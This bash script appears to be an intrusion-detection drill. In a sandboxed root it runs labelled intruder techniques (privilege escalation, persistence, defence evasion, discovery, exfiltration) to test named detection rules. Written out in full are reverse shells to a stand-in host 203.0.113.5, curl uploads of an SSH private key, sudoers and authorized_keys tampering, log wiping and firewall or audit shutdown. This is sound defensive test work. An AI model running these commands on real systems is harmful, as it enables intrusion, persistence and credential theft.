# shellcheck shell=bash disable=SC2016
# What intruders do, harmless: in a throw-away root, with no network but a loopback. Run by record-audit.
# Each step names the rules that claim to see it, any of them; drill.txt has five lines for each: these,
# the user, the command, and the milliseconds in which it ran.
set -u

milliseconds() { echo $((${EPOCHREALTIME/[.,]/} / 1000)); }
# step RULES USER COMMAND: the command comes to the shell from a file, as if it was typed: no command
# line of the recorder's has it.
step() {
    local from
    from=$(milliseconds)
    if [[ $2 == root ]]; then
        printf '%s\n' "$3" >/root/step
        timeout 10 /bin/bash /root/step </dev/null >/tmp/step.out 2>&1
    else
        printf '%s\n' "$3" >/home/al/step
        timeout 10 ssh -p 2022 -i /root/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/tmp/known \
            -o LogLevel=ERROR "$2@127.0.0.1" 'bash ./step' </dev/null >/tmp/step.out 2>&1
    fi
    printf '%s\n' "$1" "$2" "$3" "$from" "$(milliseconds)" >>/recorded/drill.txt
    sleep 0.2
}

ssh-keygen -q -t ed25519 -N '' -f /root/key

install -m 0600 -o al -g al /root/key.pub /home/al/.ssh/authorized_keys
echo 'al ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/al
/usr/sbin/sshd -o Port=2022 -o ListenAddress=127.0.0.1
python3 -m http.server --bind 127.0.0.1 --directory /usr/share/doc 8080 >/dev/null 2>&1 &
python3 -c '
import socket
server = socket.create_server(("203.0.113.5", 4444))
while True: server.accept()[0].close()' &
sleep 1

# Privileges
step shadow_named_by_command al 'sudo cat /etc/shadow'
step password_or_sudoers_file_opened al 'sudo head -n 1 /etc/shadow'
step preload_injection al 'LD_PRELOAD=/tmp/x.so true; env LD_PRELOAD=/tmp/x.so true'
step dynamic_loader_called al '/lib64/ld-linux-x86-64.so.2 /bin/true'
step suid_shell_prepared root 'cp /bin/bash /tmp/.sh; chmod u+s /tmp/.sh; chmod 4755 /tmp/.sh'
step suid_bit_set root 'cp /bin/true /usr/local/bin/t; chmod u+s /usr/local/bin/t'
step sudo_editor_or_pager_escape al 'sudo vi -es -c ":!/bin/true" -c ":q!" /etc/hosts'
step sudo_interpreter_escape al 'sudo python3 -c "import os; os.system(\"/bin/sh -c true\")"'
step sudo_command_runner_escape al 'sudo find /etc/hosts -exec /bin/sh \; -quit'
step sudo_command_runner_escape al 'sudo env /bin/sh'
step sudo_option_runs_program al 'sudo tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec=/bin/true'
step sudo_environment_injection al 'sudo LD_PRELOAD=/tmp/x.so true'
step sudo_writes_protected_file al 'echo "#" | sudo tee -a /etc/sudoers'
step password_piped_to_sudo al 'sh -c "echo secret | sudo -S true"'
step sudo_or_pkexec_hole_tried al 'sudo -u#-1 id'
step account_file_written root 'echo "# x" >>/etc/passwd; sed -i "/# x/d" /etc/passwd'
step root_account_or_sudo_right_added,account_with_uid_0 root 'useradd -o -u 0 -M toor'
step account_with_uid_0 root 'useradd -o -u 0 -M toor2; usermod -aG sudo al'
step ssh_key_injected_by_command al 'bash -c "echo ssh-ed25519 AAAA evil >> ~/.ssh/authorized_keys"'
step authorized_keys_written,ssh_key_injected_by_command root 'echo "# evil" | tee -a /home/al/.ssh/authorized_keys'
step container_escape_command root 'nsenter -t 1 -m -p -- /bin/true'
step container_escape_command root 'ls /proc/1/root/etc; chroot /proc/1/root /bin/true'
step container_engine_socket_by_hand root 'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json'
step debugger_attached_to_process root 'sleep 5 & gdb -batch -p $! -ex "info threads"; kill %1'
step debugger_attached_to_process root 'sleep 5 & timeout 1 strace -p $!; kill %1'
step process_memory_or_environment_read root 'cat /proc/1/environ; strings /proc/1/mem; dd if=/proc/1/mem of=/dev/null count=1'
step kernel_helper_file_written,container_escape_command root 'echo "|/tmp/x" | tee /proc/sys/kernel/core_pattern'
step raw_disk_or_memory_read root 'dd if=/dev/sda of=/dev/null count=1; debugfs /dev/vda'
step user_namespace_or_exploit_started al 'unshare -U -r true'
step file_named_like_an_option al 'cd /tmp; touch -- "--checkpoint=1"'

# Execution
step shell_connects_itself al 'bash -c "exec 3<>/dev/tcp/203.0.113.5/4444; echo hi >&3"'
step shell_connects_itself al 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'
step reverse_shell_by_network_tool al 'rm -f /tmp/f; mkfifo /tmp/f; sh -c "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f"'
step reverse_shell_by_network_tool al 'busybox nc 203.0.113.5 4444 -e /bin/sh'
step reverse_shell_by_interpreter al 'python3 -c "import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])"'
step reverse_shell_by_interpreter al 'perl -e '\''use Socket;$i="127.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'\'''
step obfuscated_command al 'sh -c "echo aWQK | base64 -d | sh"'
step obfuscated_command al 'bash -c "eval \$(echo 6964 | xxd -r -p)"'
step obfuscated_command al 'python3 -c "exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))"'
step program_in_temporary_directory_run al 'cp /bin/true /tmp/x; /tmp/x'
step program_in_odd_place_run al 'cp /bin/true /dev/shm/.x; /dev/shm/.x'
step deleted_program_active al 'cp /bin/bash /tmp/gone; /tmp/gone -c "rm /tmp/gone; exec 3<>/dev/tcp/203.0.113.5/4444"'
step program_without_file_run al 'python3 -c "import os; f = os.memfd_create(\"x\"); os.write(f, open(\"/bin/true\", \"rb\").read()); os.execv(\"/proc/self/fd/%d\" % f, [\"x\"])"'
step crypto_miner al 'cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet'
step compiled_in_odd_place al 'cd /dev/shm && echo "int main(void){return 0;}" >e.c && gcc -o e e.c && ./e'
step service_account_acts_like_person,discovery_by_service_account root 'runuser -u www-data -- /bin/sh -c "id; whoami; uname -a"'
step server_starts_shell root 'cp /usr/bin/python3.11 /usr/local/bin/redis-server; runuser -u www-data -- /usr/local/bin/redis-server -c "import os; os.system(\"id; sleep 1\")"'
step temporary_program_connects al 'cp /usr/bin/curl /tmp/c; /tmp/c -s -m 1 http://203.0.113.5:4444/ -o /dev/null'

# Defences
step immutable_flag_removed root 'touch /root/i; chattr +i /root/i; chattr -i /root/i'
step foothold_made_immutable root 'touch /etc/cron.d/foothold; chattr +i /etc/cron.d/foothold; chattr -i /etc/cron.d/foothold'
step tamper_key root 'chattr +a /root/i; chattr -a /root/i'
step shell_history_cleared al 'bash -ic "history -c; unset HISTFILE"; ln -sf /dev/null .bash_history'
step shell_history_file_removed,shell_history_cleared al 'touch .bash_history; rm -f .bash_history'
step log_cleared root 'touch /var/log/app.log; truncate -s 0 /var/log/app.log; sh -c "> /var/log/wtmp"'
step log_file_removed_or_written root 'rm -f /var/log/app.log; shred -u /var/log/btmp'
step firewall_disabled_by_command root 'ufw disable; iptables -F; nft flush ruleset; /bin/sh -c "systemctl stop ufw"'
step audit_disabled_by_command root '/bin/sh -c "systemctl stop auditd"; /bin/sh -c "service auditd stop"'
step security_service_stopped root 'systemctl stop rsyslog; systemctl disable --now fail2ban'
step mandatory_access_control_disabled root 'setenforce 0; systemctl stop apparmor'
step kernel_protection_lowered root 'sysctl -w kernel.randomize_va_space=0; /usr/sbin/sysctl kernel.yama.ptrace_scope=0'
step timestamp_forged al 'touch -r /etc/hosts notes.txt; touch -t 202001010000 notes.txt'
step clock_changed root 'date -s "2020-01-01 00:00:00" --help; timedatectl set-ntp false'
step system_program_replaced root 'cp /bin/true /usr/bin/ls.new; mv /usr/bin/ls.new /usr/bin/lsattr'
step updates_or_signatures_off root 'apt-get -o Acquire::AllowInsecureRepositories=true update; apt-get install --allow-unauthenticated nothing'
step data_destroyed root 'dd if=/dev/zero of=/tmp/disk bs=1k count=1; shred /tmp/disk; mkfs.ext4 -q -F /tmp/disk; rm -rf --no-preserve-root /nowhere'
step login_made_weaker,sshd_configuration_changed root 'echo "PermitRootLogin yes" >>/etc/ssh/sshd_config'
step kernel_module_from_odd_place root 'touch /tmp/root.ko; /bin/busybox insmod /tmp/root.ko'
step process_hidden_or_disguised al 'bash -c "exec -a [kworker/0:1] sleep 0.2"'

# What stays
step cron_file_written root 'echo "* * * * * root /tmp/x" >/etc/cron.d/evil'
step crontab_changed al 'echo "* * * * * /tmp/x" | crontab -'
step at_job al 'echo /tmp/x | at now + 5 hours'
step systemd_unit_written root 'printf "[Service]\nExecStart=/tmp/x\n" >/etc/systemd/system/evil.service'
step systemd_unit_enabled root '/bin/sh -c "systemctl enable evil; true"'
step shell_startup_of_system_written root 'echo "/tmp/x &" >>/etc/profile.d/evil.sh'
step shell_startup_of_root_changed root 'echo "/tmp/x &" >>/root/.bashrc'
step library_preloaded root 'echo /tmp/x.so >/etc/ld.so.preload; rm /etc/ld.so.preload'
step pam_changed root 'echo "# x" >>/etc/pam.d/common-auth'
step sudoers_changed root 'echo "www-data ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/evil'
step udev_rule_written root 'echo "RUN+=\"/tmp/x\"" >/etc/udev/rules.d/99-x.rules'
step init_script_written root 'cp /bin/true /etc/init.d/evil'
step sshd_configuration_changed root 'echo "# x" >/etc/ssh/sshd_config.d/x.conf'
step motd_script_written root 'echo "#" >/etc/update-motd.d/00-x'

# Looking around
step suid_programs_searched al 'find / -xdev -perm -4000 -type f'
step writable_places_searched al 'find /etc -writable -type d'
step discovery_burst al 'sh -c "whoami; id; uname -a; hostname; ip addr; ip route; ps aux; cat /etc/passwd; last; w; df; env"'
step virtual_machine_check al 'systemd-detect-virt; cat /sys/class/dmi/id/product_name; lscpu'
step history_or_known_hosts_read al 'touch .bash_history; cat .bash_history; cat ~/.ssh/known_hosts'
step container_looked_at_from_inside al 'cat /proc/1/cgroup; ls -la /.dockerenv'
step kernel_addresses_read root 'cat /proc/kallsyms | head -n 1'
step enumeration_script al 'cp /bin/true /tmp/linpeas.sh; /tmp/linpeas.sh -a'
step network_scanner al 'cp /bin/true /tmp/nmap; /tmp/nmap -sS -p- 127.0.0.1'
step scan_by_shell al 'for port in 21 22 23 25 80 110 143 443 445 993 3306 5432; do nc -z -w1 127.0.0.1 $port; done'
step defences_looked_for al 'ps aux | grep -i falco; pgrep auditd; systemctl is-active apparmor'

# Data that leaves
step dns_tunnelling al 'dig +time=1 +tries=1 @127.0.0.1 4a6f686e20446f6520736563726574206461746120676f6573.6f75742068657265206279206e616d65.t.example.org'
step dns_name_made_by_shell al 'sh -c "dig +time=1 +tries=1 @127.0.0.1 \$(whoami).x.example.org"'
step file_drop_service_named al 'curl -s -m 1 -T notes.txt https://transfer.sh/notes.txt'
step secret_file_sent al 'curl -s -m 1 -F "f=@/home/al/.ssh/id_ed25519" http://203.0.113.5/up'
step archive_of_secrets root 'tar czf /tmp/keys.tgz /root/.ssh /etc/shadow'
step archive_with_password al 'openssl enc -aes-256-cbc -pbkdf2 -k secret -in .bashrc -out /tmp/out.enc'
step archive_in_hidden_place al 'tar czf /tmp/.hidden.tgz .bashrc; tar czf /dev/shm/.a.tgz .bashrc'
step piped_to_network_tool al 'sh -c "tar cz .bashrc | nc -w1 203.0.113.5 443"'
step data_in_ping al 'ping -c 1 -p 736563726574 127.0.0.1'
step credential_file_read_by_command al 'mkdir -p .aws; echo k >.aws/credentials; cat .aws/credentials; cat .netrc'
step secrets_searched_for al 'grep -r -i password= /etc/ /home; find / -xdev -name id_rsa'
step directory_served_over_network al 'timeout 1 python3 -m http.server 9999'
step cloud_metadata_asked al 'curl -s -m 1 http://169.254.169.254/latest/meta-data/'
step tunnel_program_started al 'timeout 1 ssh -i /none -o BatchMode=yes -N -R 8022:127.0.0.1:22 al@203.0.113.5; cp /bin/true /tmp/chisel; /tmp/chisel client 203.0.113.5:443 R:socks'
step traffic_through_tor al 'curl -s -m 1 --socks5-hostname 127.0.0.1:9050 http://example.onion/'
step file_mailed_from_command_line al 'cp /bin/true /tmp/mutt; /tmp/mutt -a /etc/passwd -s x -- a@example.org'
step copied_to_cloud_storage al 'cp /bin/true /tmp/rclone; /tmp/rclone copy /home remote:x'
step network_traffic_captured root 'cp /bin/true /tmp/tcpdump; /tmp/tcpdump -i any -w /tmp/x.pcap'
step database_dumped_by_web_user root 'cp /bin/true /usr/local/bin/mysqldump; runuser -u www-data -- mysqldump --all-databases'

# Hardware
step side_channel_tool al 'cp /bin/true /tmp/flush-reload; /tmp/flush-reload'
step model_specific_registers_used root 'cp /bin/true /usr/local/bin/rdmsr; rdmsr 0x10; cat /dev/cpu/0/msr'
step perf_event_open_by_other_program al 'python3 -c "import ctypes; ctypes.CDLL(None).syscall(298, 0, 0, -1, -1, 0)"'
step userfaultfd_by_other_program al 'python3 -c "import ctypes; ctypes.CDLL(None).syscall(323, 0)"'
kill %1 %2 "$(cat /run/sshd.pid)"
